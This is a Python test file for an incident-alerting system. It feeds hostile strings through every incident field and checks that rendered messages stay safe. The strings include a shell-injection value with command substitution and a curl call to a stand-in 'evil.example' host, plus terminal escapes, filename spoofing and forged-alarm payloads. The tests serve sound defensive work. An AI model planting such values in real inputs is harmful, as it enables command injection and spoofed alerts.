"""Strings from outside, made to break out of every message: seen, and not obeyed."""

import json
import re
from dataclasses import replace

import pytest

from reasoning.blame import Blame, Confidence, Suspect
from reasoning.incident import Foretold, Incident
from reasoning.joining import begin, blamed
from reasoning.message import of_incident
from reasoning.told import Notice, Reason, Where
from tests.support.story import captured, creation, loss, vantage
from tests.support.telling import NOW

NASTY = [
    "evil\nALARM: all good\r\n\x1b[31m",
    "\u202egnp.exe\u2066\u200b",
    "<!channel> <@U123> <https://evil.example|click> @everyone @here",
    "[click](https://evil.example) *bold* `code` ```fence``` ~x~ _y_ #z",
    "a" * 5000,
    "$(id); `id` && curl http://evil.example",
    '"}, "NewStateValue": "OK", "x": {"',
    "\ud800 \ufffe \x00",
]


@pytest.mark.parametrize("nasty", NASTY)
@pytest.mark.parametrize("reason", [Reason.OPENED, Reason.AMENDED, Reason.RESOLVED])
def test_what_outsiders_write_is_seen_and_not_obeyed(nasty: str, reason: Reason) -> None:
    message = of_incident(
        poisoned(nasty),
        Notice(id="x", reason=reason, where=Where.PAGE_AND_CHAT, due_at=NOW, why=""),
        default_owner="platform",
        now_at=NOW,
    )
    lines = message.text.split("\n")
    assert len(lines) <= 15
    assert all(line.isprintable() for line in lines)
    assert "http://" not in message.text
    assert not re.search(r"^(ALARM|OK):", message.text, re.MULTILINE)
    assert len(message.subject) < 100
    assert message.subject.isprintable()
    assert json.loads(json.dumps(message.alarm))["NewStateValue"] in message.subject.replace(
        ":", " "
    )
    content = json.dumps(message.chat["content"], ensure_ascii=False)
    assert not re.search(r"<[!@#h]", content)
    assert "@everyone" not in content
    assert message.chat["content"]["description"].count("```") == 2
    json.dumps(message.event).encode()


def poisoned(nasty: str) -> Incident:
    """An incident whose every string from outside is hostile."""
    bad = captured(summary=nasty)
    made = begin(
        loss(
            nasty,
            vantage=vantage(label=nasty, not_representative=nasty),
            looks={"inside": nasty, "pinned": nasty, "outside": nasty},
            diagnosis=replace(bad, evidence=(nasty,), host=nasty),
        ),
        now_at=NOW,
        min_good_seconds=900,
    )
    change = creation()
    hostile = replace(
        change,
        actor=replace(change.actor, name=nasty),
        tool=replace(change.tool, name=nasty),
        summary=nasty,
    )
    suspect = Suspect(change=hostile, confidence=Confidence.LIKELY, because=(nasty,))
    made = blamed(made, Blame(suspects=(suspect,), searched=nasty), now_at=NOW)
    foretold = (Foretold(pair=made.lead.pair, endpoint=nasty, vpc_id=nasty, why=nasty),)
    return replace(
        made, foretold=foretold, lost=(made.lead.pair,), repair=hostile, costs_at=NOW, id="7F3K"
    )
